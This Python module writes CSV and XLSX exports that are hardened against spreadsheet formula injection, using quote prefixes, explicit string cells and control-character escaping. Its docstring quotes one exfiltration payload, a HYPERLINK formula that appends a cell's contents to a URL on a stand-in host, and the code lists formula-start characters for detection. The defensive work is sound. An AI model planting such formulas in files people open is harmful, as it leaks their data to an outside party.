"""Spreadsheet-safe CSV and XLSX writers: every file the project hands out (reports, statements,
reconciliation mismatches, bulk-purchase codes, coupon codes) is written here.

Names and codes come from people (a product or channel name, a distributor's Telegram name, a
provider's transaction id, a card key). A spreadsheet opens a cell starting with ``=``, ``+``,
``-``, ``@`` (or a tab / carriage return, or the full-width ``＝＋－＠``) as a live formula, and
``=HYPERLINK("http://x/?"&A1, ...)`` leaks the sheet. So text cells are neutralised:

* CSV — the OWASP way: such a cell gets a single quote in front (``-AB12`` → ``'-AB12``). A cell
  that already starts with ``'`` gets one too, so the rule to read a cell back is exact and the
  same for a person and a program: *a cell starting with ``'`` loses that one ``'``* (``restore``).
* XLSX — the cell is an explicit string (never a formula, never an error code such as ``#N/A``)
  and, when it looks like a formula, carries Excel's "quote prefix" style so that editing it
  keeps it text. Its value stays exactly the text: a card key reads the same.

Only text is neutralised: ints, ``Decimal`` and ``Money`` are numbers and are written as they
are, negative ones included. A NUL is never written (it becomes U+FFFD, so a damaged value is
visibly damaged). In XLSX, the other control characters XML cannot carry (a carriage return would
come back as a line feed) are written the OOXML way, ``_x000D_``, as Excel itself writes them, and
a literal ``_xHHHH_`` in a text gets its ``_`` escaped (``_x005F_``): Excel shows the exact text.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING

from quanyi.core.money import Money, exponent

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell as SheetCell

Cell = str | int | Decimal | Money | None

# What Excel, LibreOffice and Google Sheets start a formula with (full-width forms included:
# an IME turns them into the ASCII ones).
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
REPLACEMENT = "\ufffd"
_CSV_SPECIAL = re.compile(r'[",\r\n]')
# What an XLSX text cannot hold as it is: the control characters XML 1.0 refuses or rewrites (a
# CR), and an underscore that would start an ``_xHHHH_`` escape (ECMA-376, ST_Xstring).
_XLSX_ESCAPE = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)|[\x01-\x08\x0b\x0c\r\x0e-\x1f]")
_SHEET_TITLE_ILLEGAL = re.compile(r"[\[\]:*?/\\]")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could take ``text`` for a formula. Leading spaces do not hide
    one (LibreOffice can trim them on import); a lone ``-`` (our "none") cannot be one."""
    if text == "-":
        return False
    return text[:1] in FORMULA_START or text.lstrip()[:1] in FORMULA_START


def neutralise(text: str) -> str:
    """The CSV form of a text cell: ``'`` in front when it looks like a formula or already
    starts with ``'`` (so that ``restore`` is exact); NULs replaced."""
    text = text.replace("\x00", REPLACEMENT)
    return QUOTE + text if text.startswith(QUOTE) or looks_like_formula(text) else text


def restore(cell: str) -> str:
    """The text a CSV cell written by ``neutralise`` stands for."""
    return cell.removeprefix(QUOTE)


def _csv_field(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        text = neutralise(value)
    elif isinstance(value, Money):
        text = value.format_plain()
    elif isinstance(value, Decimal):
        text = format(value, "f")
    elif isinstance(value, int) and not isinstance(value, bool):
        text = str(value)
    else:
        raise TypeError(f"cannot export a {type(value).__name__} cell")
    # RFC 4180: a field holding a comma, a quote or a line break (CR or LF, whatever the file's
    # own line end) is quoted, its quotes doubled.
    return '"' + text.replace('"', '""') + '"' if _CSV_SPECIAL.search(text) else text


def csv_text(rows: Iterable[Sequence[Cell]], *, line_end: str = "\r\n") -> str:
    """Rows (the header first) as CSV text."""
    lines = []
    for row in rows:
        fields = [_csv_field(value) for value in row]
        # As the csv module does: a row of one empty field would read back as no row at all.
        lines.append('""' if fields == [""] else ",".join(fields))
    return "".join(line + line_end for line in lines)


def csv_bytes(rows: Iterable[Sequence[Cell]], *, line_end: str = "\r\n", bom: bool = False) -> bytes:
    """Rows as UTF-8 CSV; ``bom`` puts a byte-order mark first, which makes spreadsheet programs
    read Chinese names as UTF-8."""
    return (("\ufeff" if bom else "") + csv_text(rows, line_end=line_end)).encode("utf-8")


def _plain(value: Cell) -> str:
    if value is None:
        return ""
    return value.format_plain() if isinstance(value, Money) else str(value)


def xlsx_text(text: str) -> str:
    """``text`` as stored in an XLSX cell (what Excel shows is ``text`` itself, NULs replaced)."""
    text = text.replace("\x00", REPLACEMENT)
    return _XLSX_ESCAPE.sub(lambda match: f"_x{ord(match.group()):04X}_", text)


def _put(cell: SheetCell, value: Cell) -> None:
    if value is None:
        return
    if isinstance(value, str):
        cell.value = xlsx_text(value)
        # openpyxl takes "=..." for a formula and "#N/A" for an error: an explicit string is neither.
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    elif isinstance(value, Money):
        # Exact decimals (never a float); the format keeps the currency's digits.
        cell.value = Decimal(value.format_plain())
        digits = exponent(value.currency)
        cell.number_format = "0." + "0" * digits if digits else "0"
    elif isinstance(value, Decimal | int) and not isinstance(value, bool):
        cell.value = value
    else:
        raise TypeError(f"cannot export a {type(value).__name__} cell")


def xlsx_bytes(title: str, headers: Sequence[str], rows: Sequence[Sequence[Cell]]) -> bytes:
    """One sheet named after ``title``: a bold header row, then ``rows``; columns sized to fit."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = _SHEET_TITLE_ILLEGAL.sub(" ", title[:31]) or "Sheet"
    for n, row in enumerate([headers, *rows], start=1):
        for column, value in enumerate(row, start=1):
            _put(sheet.cell(n, column), value)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for column, header in enumerate(headers, start=1):
        width = max([len(header), *(len(_plain(row[column - 1])) for row in rows)])
        sheet.column_dimensions[sheet.cell(1, column).column_letter].width = min(width + 2, 60)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
